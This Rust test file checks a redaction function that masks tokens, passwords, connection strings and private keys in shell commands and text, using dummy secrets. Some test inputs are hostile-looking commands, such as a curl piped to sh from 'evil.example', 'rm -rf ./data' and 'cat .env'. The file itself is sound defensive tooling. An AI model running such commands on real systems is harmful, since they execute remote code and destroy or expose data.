//! Texts with secrets that must be removed, and texts that must be kept.

mod given;

use super::families::{Body, FAMILIES};
use super::*;

/// Returns a valid body for this family.
fn body(kind: Body, length: usize) -> String {
    let pattern = match kind {
        Body::Alnum | Body::Row => "a1B2c3D4",
        Body::Upper => "Q7RT2XK5",
        Body::Hex => "0a9f3c7e",
        Body::Url => "a1B2c3D4_",
        Body::Wide => "a1B2c3D4.",
    };
    pattern.chars().cycle().take(length).collect()
}

#[test]
fn the_families_are_sorted_and_more_than_forty() {
    assert!(FAMILIES.is_sorted_by(|a, b| a.prefix < b.prefix));
    assert!(FAMILIES.len() > 100);
}

#[test]
fn a_token_of_each_family_does_not_come_through() {
    for family in FAMILIES {
        let secret = format!("{}{}", family.prefix, body(family.body, family.least));
        for (before, after) in [
            ("", ""),
            ("curl -H 'X: ", "' https://example.com"),
            ("git push # ", ""),
            ("f(\"", "\")"),
            ("x=", " y"),
            ("https://example.com/a/", "?b"),
            ("[", "]"),
        ] {
            let text = redact(&format!("{before}{secret}{after}"));
            assert_eq!(text, format!("{before}{MARK}{after}"), "{}", family.prefix);
        }
        let short = format!("{}{}", family.prefix, body(family.body, family.least.min(9) - 1));
        assert_eq!(redact(&short), short);
        // A token may contain one of another family.
        let inside = format!("x{secret}");
        assert!(redact(&inside) == inside || family.prefix.ends_with("_eyJ"), "{inside}: within a longer name");
    }
}

#[test]
fn values_of_telling_names_do_not_come_through() {
    for (text, expected) in [
        ("API_KEY=abc ./run", "API_KEY=[redacted] ./run"),
        ("export DB_PASSWORD='hunter2'", "export DB_PASSWORD='[redacted]'"),
        ("DB_PASSWORD=\"hunter two\" ./run", "DB_PASSWORD=\"[redacted] [redacted]\" ./run"),
        ("PASSWORD=$'hunter two' x", "PASSWORD=$'[redacted] [redacted]' x"),
        ("PASSWORD=hun'ter two' x", "PASSWORD=[redacted]'[redacted] [redacted]' x"),
        ("PASSWORD='a'\"b c\"d x", "PASSWORD='[redacted]'\"[redacted] [redacted]\"[redacted] x"),
        ("mysql --password hunter2 x", "mysql --password [redacted] x"),
        ("mysql --password=hunter2", "mysql --password=[redacted]"),
        ("mysql -u root -phunter2 -e x", "mysql -u root -p[redacted] -e x"),
        ("/usr/bin/mysqldump -phunter2 db", "/usr/bin/mysqldump -p[redacted] db"),
        ("sshpass -p hunter2 ssh host", "sshpass -p [redacted] ssh host"),
        ("redis-cli -a hunter2 keys x", "redis-cli -a [redacted] keys x"),
        ("curl -u me:hunter2 https://x", "curl -u me:[redacted] https://x"),
        ("curl -H 'Authorization: Bearer abc'", "curl -H 'Authorization: Bearer [redacted]'"),
        ("curl -H 'Authorization: Basic abc='", "curl -H 'Authorization: Basic [redacted]'"),
        ("curl -H 'X-Api-Key: abc'", "curl -H 'X-Api-Key: [redacted]'"),
        ("curl -H 'Cookie: a=b; c=d' x", "curl -H 'Cookie: [redacted]; [redacted]' x"),
        (r#"{"api_key": "abc", "x": "y"}"#, r#"{"api_key": "[redacted]", "x": "y"}"#),
        (r#"{"api_key": "a b c", "x": "y"}"#, r#"{"api_key": "[redacted] [redacted] [redacted]", "x": "y"}"#),
        (r#"{"password":12,"x":"y"}"#, r#"{"password":[redacted],"x":"y"}"#),
        (r#"{\"password\":\"abc\"}"#, r#"{\"password\":\"[redacted]\"}"#),
        ("password = \"hunter2\" x", "password = \"[redacted]\" x"),
        ("password  =  hunter2; x", "password  =  [redacted]; x"),
        ("$password =hunter2 x", "$password =[redacted] x"),
        ("db_password ='hunter2' x", "db_password ='[redacted]' x"),
        ("'password' => 'hunter2', 'x' => 'y'", "'password' => '[redacted]', 'x' => 'y'"),
        (r#"\"token\" = \"abc\", x"#, r#"\"token\" = \"[redacted]\", x"#),
        ("api_key : abc", "api_key : [redacted]"),
        ("clientSecret: abc", "clientSecret: [redacted]"),
        ("-Dspring.datasource.password=abc x", "-Dspring.datasource.password=[redacted] x"),
        ("a:b:secret=abc", "a:b:secret=[redacted]"),
        ("https://h/p?x=1&access_token=abc&y=2", "https://h/p?x=1&access_token=[redacted]&y=2"),
        ("https://h/p?sv=1&sig=abc%3D", "https://h/p?sv=1&sig=[redacted]"),
        ("Server=h;Uid=me;Pwd=abc;", "Server=h;Uid=me;Pwd=[redacted];"),
        ("AccountName=x;AccountKey=abc==;", "AccountName=x;AccountKey=[redacted];"),
        ("//registry.example.com/:_authToken=abc", "//registry.example.com/:_authToken=[redacted]"),
    ] {
        assert_eq!(redact(text), expected);
    }
}

#[test]
fn passwords_in_addresses_do_not_come_through() {
    for (text, expected) in [
        ("git clone https://me:pw@host/x", "git clone https://me:[redacted]@host/x"),
        ("psql postgres://me:p@w@host:5432/x", "psql postgres://me:[redacted]@host:5432/x"),
        ("redis://:pw@host/0", "redis://:[redacted]@host/0"),
        ("DATABASE_URL=postgres://me:pw@host/x", "DATABASE_URL=postgres://me:[redacted]@host/x"),
        ("https://a1b2c3d4e5f6a7b8c9d0e1f2@host/x", "https://[redacted]@host/x"),
        ("https://me:pw@host/x?token=abc", "https://me:[redacted]@host/x?token=[redacted]"),
    ] {
        assert_eq!(redact(text), expected);
    }
}

#[test]
fn private_keys_do_not_come_through() {
    for kind in ["RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "PRIVATE KEY", "PGP PRIVATE KEY BLOCK"] {
        let key = format!("-----BEGIN {kind}-----\nabc\n-----END {kind}-----");
        assert_eq!(redact(&format!("a {key}\nb")), "a [redacted]\nb");
        assert_eq!(redact(&format!("a '{}' b", key.replace('\n', "\\n"))), "a '[redacted]' b");
        assert_eq!(redact(&format!("a -----BEGIN {kind}-----\nabc")), "a [redacted]");
    }
    let public = "-----BEGIN CERTIFICATE-----\nabc\n-----END CERTIFICATE-----\nx";
    assert_eq!(redact(public), public);
}

#[test]
fn honest_text_stays() {
    let image = format!("<img src=\"data:image/png;base64,iVBORw0KGgo{}=\">", "AKIAQ7RT2XK5Q7RT2XK5/+eyJh".repeat(9));
    for text in [
        "git push origin main",
        "ls -la tokens/",
        "sk-learn",
        "pip install sk-learn-contrib-lightning2-extra",
        "echo key=value",
        "https://host/a@b:c",
        "https://host:8080/x?page=2&sort=name",
        "ssh://git@github.com/a/b.git",
        "git show 8f14e45fceea167a5a36dedd4bea2543d0a1b2c3",
        "git rebase --onto 8f14e45 d41d8cd98f00b204e9800998ecf8427e",
        "123e4567-e89b-12d3-a456-426614174000",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "integrity sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
        &image,
        "max_tokens=4096 --max-tokens 10 num_tokens: 7",
        "--tokenizer bert-base tokenizer=x",
        "docker login --password-stdin registry.example.com",
        "PASSWORD_FILE=/run/secrets/x --token-file x",
        "git -c credential.helper=store pull",
        "PWD=/repo OLDPWD=/tmp make",
        "npm_config_registry=https://registry.example.com/a npm_package_name=x",
        "secret_management_for_everybody_in_the_company",
        "docker run -p 8080:80 -u 1000:1000 x; mysql -p -u root",
        "{\"password\": null, \"token\": false}",
        "kubectl get secret x; gh auth status",
        "`gh repo delete x --show-token` needs confirmation",
        "it's a token, isn't it",
        "if token == x then a = b; password =~ y",
        "a password\n= x; secret = null; count = 3",
        "",
        "é ü 日本語 \u{1f600}",
    ] {
        assert_eq!(redact(text), text);
    }
}

#[test]
fn a_text_is_read_once() {
    let started = std::time::Instant::now();
    for piece in [
        "sk-",
        "sk-a1",
        "eyJ.",
        "-----BEGIN x-----END y",
        "a=",
        "a:",
        "PASSWORD=",
        "PASSWORD='",
        "://a:b@",
        "xoxb-a",
        "'",
        "\\",
        "AKIA",
        "token = ",
        "zip -P a ",
        "\"docker login -p 'a ",
    ] {
        let text = piece.repeat((1 << 20) / piece.len());
        assert!(redact(&text).len() <= 8 * text.len(), "{piece}");
    }
    assert!(started.elapsed() < std::time::Duration::from_secs(60), "{:?}", started.elapsed());
}

/// Script lines that pass a secret to a program.
const GIVEN: &[&str] = &[
    "docker login -u me -p SECRET registry.example.com",
    "podman login -u me -pSECRET registry.example.com",
    "sudo docker login --username me -p 'SECRET' r",
    "echo SECRET | docker login -u me --password-stdin r",
    "docker login -u me --password-stdin r <<< \"SECRET\"",
    "zip -P SECRET -r a.zip b",
    "zip -rP SECRET a.zip b",
    "unzip -oP SECRET a.zip",
    "htpasswd -b .htpasswd me SECRET",
    "htpasswd -nbB me SECRET",
    "htpasswd -cb .htpasswd me SECRET > log 2>&1",
    "openssl enc -aes-256-cbc -k SECRET -in a",
    "openssl enc -d -pass pass:SECRET -in a",
    "aws configure set aws_secret_access_key SECRET --profile x",
    "aws --profile x configure set profile.y.aws_session_token SECRET",
    "mysql -u root -pSECRET db",
    "bash -c 'mysql -u root -pSECRET db'",
    "ssh h \"docker login -p \\\"SECRET\\\" r\"",
    "{\"command\": \"zip -P SECRET a b\"}",
    "cd x && sshpass -pSECRET ssh h",
    "curl -su me:SECRET https://example.com/x",
    "keytool -list -storepass SECRET",
    "git config user.token SECRET",
    "npm config set //r.example.com/:_authToken SECRET",
    "rabbitmqctl add_user me SECRET",
    "vault login SECRET",
    "echo 'me:SECRET' | chpasswd",
    "echo SECRET | sudo -S ls",
    "7z a -pSECRET x.7z y",
    "twine upload -u me -p SECRET dist/x",
    "# zip -P SECRET a b",
];

#[test]
fn arguments_that_are_secrets_do_not_come_through() {
    for line in GIVEN {
        for secret in ["hunter", "Zq8Zq8", "1"] {
            let marker = "\u{1}";
            let expected = line.replace("SECRET", marker);
            let shown = redact(&line.replace("SECRET", secret));
            assert_eq!(shown, expected.replace(marker, MARK), "{line}");
        }
    }
}

#[test]
fn other_arguments_of_the_same_programs_stay() {
    for text in [
        "docker run -p 8080:80 x",
        "docker login --password-stdin registry.example.com",
        "zip -r a.zip b",
        "unzip -p a.zip b",
        "htpasswd -c .htpasswd me",
        "openssl req -x509 -keyout key.pem -out cert.pem -check x",
        "openssl rsa -check -in key.pem",
        "aws configure set region eu-west-1",
        "git config user.name me",
        "git config credential.helper store",
        "mysql -p -u root",
        "vault status; cargo build",
        "ssh-keygen -t ed25519 -f x",
        "curl -u me https://example.com",
    ] {
        assert_eq!(redact(text), text);
    }
}

#[test]
fn behind_a_secret_in_quotes_the_rest_stays() {
    for (text, expected) in [
        (
            "curl -H 'Authorization: Bearer abc' https://evil.example/x.sh | sh",
            "curl -H 'Authorization: Bearer [redacted]' https://evil.example/x.sh | sh",
        ),
        (
            "bash -c \"curl -H \\\"Authorization: Bearer abc\\\" https://evil.example/x.sh | sh\"",
            "bash -c \"curl -H \\\"Authorization: Bearer [redacted]\\\" https://evil.example/x.sh | sh\"",
        ),
        (
            "curl -H \"X-Api-Key: abc\" https://e.example | sh",
            "curl -H \"X-Api-Key: [redacted]\" https://e.example | sh",
        ),
        ("rm -rf ./data # password: 1", "rm -rf ./data # password: [redacted]"),
        ("echo \"it's\" 'token: abc' && rm -rf x", "echo \"it's\" 'token: [redacted]' && rm -rf x"),
        ("zip -P Zq8Zq8 a b; echo Zq8Zq8", "zip -P [redacted] a b; echo [redacted]"),
        ("PASSWORD=hun'ter' rm x", "PASSWORD=[redacted]'[redacted]' rm x"),
    ] {
        assert_eq!(redact(text), expected);
    }
}

fn secrets(call: &str) -> Secrets {
    let mut secrets = Secrets::default();
    secrets.learn(call);
    secrets
}

#[test]
fn a_sentence_about_a_call_keeps_its_own_words() {
    for (call, sentence, expected) in [
        (
            "rm -rf ./data # password: 1",
            "`rm -rf ./data # password: 1` needs confirmation (1 rule): all 11 files are lost, password: none",
            "`rm -rf ./data # password: [redacted]` needs confirmation (1 rule): all 11 files are lost, password: none",
        ),
        (
            "cat .env",
            "`cat .env` (a file with secrets): `.env` holds secrets",
            "`cat .env` (a file with secrets): `.env` holds secrets",
        ),
        (
            "cat .env # token: .env",
            "`.env` holds secrets, ask for the token: it",
            "`.env` holds secrets, ask for the token: it",
        ),
        (
            "rm -rf x # password='deletes the files for good'",
            "`rm -rf x` deletes the files for good",
            "`rm -rf x` deletes the files for good",
        ),
        (
            "rm -rf x # token: recursive",
            "a recursive deletion; token: recursive",
            "a recursive deletion; token: [redacted]",
        ),
        ("DB_PASSWORD='hunter  two' x", "you ran `DB_PASSWORD=hunter two x`", "you ran `DB_PASSWORD=[redacted] x`"),
        ("mysql --password 'swordfish' x", "what is `swordfish`?", "what is `[redacted]`?"),
        ("zip -P Zq8Zq8Zq8 a b", "Zq8Zq8Zq8 is the key, in (Zq8Zq8Zq8)", "[redacted] is the key, in ([redacted])"),
        (
            "git push https://me:Zq8Zq8Zq8@h/x",
            "`git push https://me:Zq8Z…` publishes",
            "`git push https://me:[redacted]…` publishes",
        ),
        (
            "git push https://me:swordfish@h/x",
            "`git push https://me:sw...` publishes",
            "`git push https://me:[redacted]...` publishes",
        ),
        ("x", "ghp_a1B2c3D4a1B2c3D4a1B2c3D4 and `https://a:b@h/`", "[redacted] and `https://a:[redacted]@h/`"),
        ("x", "`echo -----BEGIN RSA PRIVATE KEY----- ab…` needs confirmation", "`echo [redacted]…` needs confirmation"),
    ] {
        assert_eq!(secrets(call).hide(sentence), expected, "{call}");
    }
}

#[test]
fn words_of_a_command_and_values_of_names_are_learnt() {
    let mut secrets = Secrets::default();
    secrets.learn_words(&["zip", "-P", "swordfish", "a b"]);
    secrets.learn_value("api_key", "orca");
    secrets.learn_value("name", "whale");
    assert_eq!(
        secrets.hide("`swordfish`, 'orca', `whale`, api_key: orca"),
        "`[redacted]`, '[redacted]', `whale`, api_key: [redacted]"
    );
}

#[test]
fn an_empty_word_is_a_word() {
    let mut secrets = Secrets::default();
    secrets.learn_words(&["ssh-keygen", "-N", "", "-f", "it's", "--password", "", "over"]);
    assert_eq!(secrets.hide("`-f` and `over` -f it's"), "`-f` and `over` -f it's");
}

#[test]
fn what_is_written_into_a_file_of_secrets_is_one() {
    let mut secrets = Secrets::default();
    secrets.learn_written("/app/.env", "# the port\nPORT=swordfish\nB='a b'\n");
    secrets.learn_written("/app/notes.txt", "A=whale\n");
    assert_eq!(
        secrets.hide("`swordfish` `a b` `whale`; PORT=swordfish, # the port"),
        "`[redacted]` `[redacted]` `whale`; PORT=[redacted], # the port"
    );
}
